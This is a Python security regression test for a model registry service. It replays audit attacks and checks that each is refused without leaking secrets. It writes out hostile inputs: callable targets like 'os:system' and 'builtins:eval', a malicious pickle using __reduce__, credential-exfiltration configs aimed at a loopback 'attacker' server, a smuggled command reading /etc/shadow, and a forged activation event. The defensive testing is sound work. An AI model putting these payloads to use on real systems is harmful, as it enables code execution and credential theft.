"""Every attack of the first security audit (issue 13), against a real `model-registry up`.

The attacker holds a signing key (the local admin's: more than a CRM module has) and writes
to ``registry.commands`` and ``predictions.requests``. Each attack is refused: nothing runs
(marker files stay absent), no file is read (a missing and an existing file get the same
answer), no request reaches the attacker's server, and no secret is stored, echoed or
logged: every topic from offset 0, both databases, the journal and the process's whole log
output are searched for each secret afterwards.
"""

from __future__ import annotations

import hashlib
import os
import pickle
import signal
import sqlite3
import subprocess
import sys
import time
import uuid
from pathlib import Path
from typing import Any

import orjson
import pytest
from aiokafka import AIOKafkaProducer
from aiokafka.admin import AIOKafkaAdminClient

from model_registry.client import ModelRegistry
from registry.core.errors import Rejected, RejectionCode, SecretInConfig
from registry.infra.settings import Settings
from tests.consumers.loopback import Reply, serve
from tests.helpers import eventually, model_config, read_topic

CLOUD_SECRET = "cloud-secret-" + uuid.uuid4().hex  # what `os:getenv` once leaked
FILE_SECRET = "file-secret-" + uuid.uuid4().hex  # what `file:` once read


class _Evil:
    """A pickle whose loading would write a marker file (as a crafted model file would)."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (Path.write_text, (self.marker, "pwned"))


@pytest.fixture
def up(tmp_path: Path) -> Any:
    data_dir = tmp_path / "reg"
    log = tmp_path / "up.log"
    env = {
        **os.environ,
        "REGISTRY_DATA_DIR": str(data_dir),
        "REGISTRY_LOG_LEVEL": "debug",
        "AWS_SECRET_ACCESS_KEY": CLOUD_SECRET,
        # the operator grants loopback hosts (as for a local model server): the credential
        # grants must still keep the process's secrets from the attacker's server
        "REGISTRY_GRANTS_HOSTS": "127.0.0.1",
        "PYTHONUNBUFFERED": "1",
    }
    env.pop("KAFKA_BOOTSTRAP_SERVERS", None)  # the embedded default, with its journal
    with log.open("w") as out:
        proc = subprocess.Popen(
            [sys.executable, "-m", "model_registry", "up"],
            env=env,
            stdout=out,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
    try:
        for _ in range(600):
            if "model-registry is up" in log.read_text():
                break
            if proc.poll() is not None:
                pytest.fail(f"`up` exited: {log.read_text()[-3000:]}")
            time.sleep(0.1)
        info = orjson.loads((data_dir / "runtime.json").read_bytes())
        yield proc, data_dir, log, info
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(30)


async def _predict(settings: Settings, model_id: str, value: Any) -> dict[str, Any]:
    request_id = str(uuid.uuid4())
    producer = AIOKafkaProducer(bootstrap_servers=settings.bootstrap_servers)
    await producer.start()
    try:
        body = {"type": "PredictionRequest", "id": request_id, "model_id": model_id, "input": value}
        await producer.send_and_wait(
            settings.topic("predictions.requests"), orjson.dumps(body), key=request_id.encode()
        )
    finally:
        await producer.stop()

    async def result() -> dict[str, Any] | None:
        for r in await read_topic(settings, "predictions.results"):
            got = orjson.loads(r.value)
            if got.get("request_id") == request_id:
                return dict(got)
        return None

    return await eventually(result, timeout=30, what=f"a result for {model_id}")


async def test_every_attack_is_refused_and_leaves_no_trace(up: Any, tmp_path: Path) -> None:
    proc, data_dir, log, info = up
    settings = Settings(bootstrap_servers=info["bootstrap_servers"], data_dir=data_dir)
    marker = tmp_path / "pwned"
    secret_file = tmp_path / "id_rsa"
    secret_file.write_text(FILE_SECRET)
    evil = tmp_path / "model.pkl"
    evil.write_bytes(pickle.dumps(_Evil(marker)))
    evil_digest = hashlib.sha256(evil.read_bytes()).hexdigest()
    hits: list[str] = []

    def attacker(request: Any) -> Reply:
        hits.append(request.path)
        return Reply(200, {"choices": [{"message": {"content": "stolen"}}]})

    with serve(attacker) as server:
        async with ModelRegistry(settings) as reg:
            # 1. code chosen by metadata: refused at registration
            for target in ("subprocess:getoutput", "os:system", "builtins:eval", "os:getenv"):
                config = model_config(
                    f"rce-{target.split(':')[1]}", provider="custom", status="active"
                )
                config["providerConfig"] = {"provider": "custom", "callable": target}
                with pytest.raises(Rejected) as refused:
                    await reg.register(config)
                assert refused.value.rejection.code == RejectionCode.FORBIDDEN
            # 2. a crafted pickle, digest-pinned, outside every model root: never loaded
            config = model_config("pickled", provider="scikit-learn", status="active")
            config["providerConfig"] = {
                "provider": "scikit-learn",
                "modelPath": str(evil),
                "modelSha256": evil_digest,
            }
            await reg.register(config)
            # 3. an endpoint on loopback with the process's cloud key / any file as credential
            for model_id, credential in (
                ("exfil-env", "env:AWS_SECRET_ACCESS_KEY"),
                ("exfil-file", f"file:{secret_file}"),
                ("probe-file", f"file:{tmp_path / 'no-such-file'}"),
            ):
                config = model_config(model_id, provider="openai", type="nlp", status="active")
                config["providerConfig"] = {
                    "provider": "openai",
                    "endpoint": f"{server.url}/v1",
                    "model": "gpt-4o-mini",
                    "credentials": {"apiKey": credential},
                }
                await reg.register(config)
            # 4. a forged actor, and raw secrets, are refused before anything is written
            with pytest.raises(SecretInConfig):
                await reg.register(model_config("leaky", description=f"key sk-{'a' * 40}"))
            # 5. a model registered (training), then "activated" by an event a stray writer
            # appends to registry.events directly: its link does not match, nobody believes it
            await reg.register(model_config("sleeper", status="testing"))
        await _forge_activation(settings, "sleeper")
        async with ModelRegistry(settings, actor="mallory") as forger:
            with pytest.raises(Rejected) as refused:
                await forger.register(model_config("forged"))
            assert refused.value.rejection.code == RejectionCode.FORBIDDEN

        answers = {
            model_id: await _predict(settings, model_id, value)
            for model_id, value in (
                ("pickled", {"visits": 1}),
                ("exfil-env", "id; head -c 60 /etc/shadow"),
                ("exfil-file", "hello"),
                ("probe-file", "hello"),
                ("sleeper", {"visits": 1}),
            )
        }
    assert hits == []  # nothing reached the attacker's server
    assert not marker.exists()  # the pickle never ran
    assert answers.pop("sleeper")["error"]["code"] == "ModelNotActive"  # the forgery
    print(
        "\n"
        + "\n".join(
            f"{m}: {a['error']['code']}: {a['error']['message']}" for m, a in answers.items()
        )
    )
    for model_id, answer in answers.items():
        assert answer.get("output") is None, (model_id, answer)
        assert answer["error"]["code"] in {
            "ProviderConfigInvalid",
            "HostNotAllowed",
            "CredentialUnavailable",
        }, (
            model_id,
            answer,
        )
    # a file that exists and one that does not get the same answer
    paths = (str(secret_file), str(tmp_path / "no-such-file"))
    same = {
        answers[m]["error"]["message"].replace(m, "M").replace(path, "P")
        for m, path in zip(("exfil-file", "probe-file"), paths, strict=True)
    }
    assert len(same) == 1, same

    # no secret anywhere: every topic, every database, the journal, the whole log
    blobs = await _everything_written(settings, proc, data_dir, log)
    assert len(blobs) > 20
    for secret in (CLOUD_SECRET, FILE_SECRET, "sk-" + "a" * 40):
        assert not any(secret.encode() in blob for blob in blobs), secret
    assert b"No such file" not in log.read_bytes()


async def _everything_written(
    settings: Settings, proc: subprocess.Popen[bytes], data_dir: Path, log: Path
) -> list[bytes]:
    """Every record of every topic (values and headers), every row of every database, the
    journal and the process's log, after the process stopped."""
    admin = AIOKafkaAdminClient(bootstrap_servers=settings.bootstrap_servers)
    await admin.start()
    try:
        topics = await admin.list_topics()
    finally:
        await admin.close()
    blobs: list[bytes] = []
    for topic in topics:
        if topic.startswith("__"):
            continue
        for record in await read_topic(settings.with_(topic_prefix=""), topic):
            blobs.append(record.value or b"")
            blobs.extend(v for _, v in record.headers)
    proc.send_signal(signal.SIGTERM)
    proc.wait(30)
    for db in data_dir.glob("*.db"):
        with sqlite3.connect(db) as conn:
            for (table,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'"):
                for row in conn.execute(f'SELECT * FROM "{table}"'):  # noqa: S608 - names from sqlite_master
                    blobs.append(repr(row).encode())
    blobs.extend(p.read_bytes() for p in data_dir.rglob("*journal*") if p.is_file())
    blobs.append(log.read_bytes())
    return blobs


async def _forge_activation(settings: Settings, model_id: str) -> None:
    """Append a ModelStatusChanged that makes ``model_id`` active, bypassing the decider: a
    copy of the model's last event, edited, with a link a forger can compute (the hash of
    the record before it in the partition... as the forger believes it is)."""
    events = await read_topic(settings, "registry.events")
    last = next(r for r in reversed(events) if orjson.loads(r.value)["model_id"] == model_id)
    forged = orjson.loads(last.value)
    forged.update(
        type="ModelStatusChanged",
        id=str(uuid.uuid4()),
        revision=forged["revision"] + 1,
        prev="0" * 64,
        payload={"from": "testing", "to": "active", "reason": "trust me"},
    )
    producer = AIOKafkaProducer(bootstrap_servers=settings.bootstrap_servers)
    await producer.start()
    try:
        await producer.send_and_wait(
            settings.topic("registry.events"),
            orjson.dumps(forged),
            key=model_id.encode(),
            headers=[("type", b"ModelStatusChanged")],
        )
    finally:
        await producer.stop()
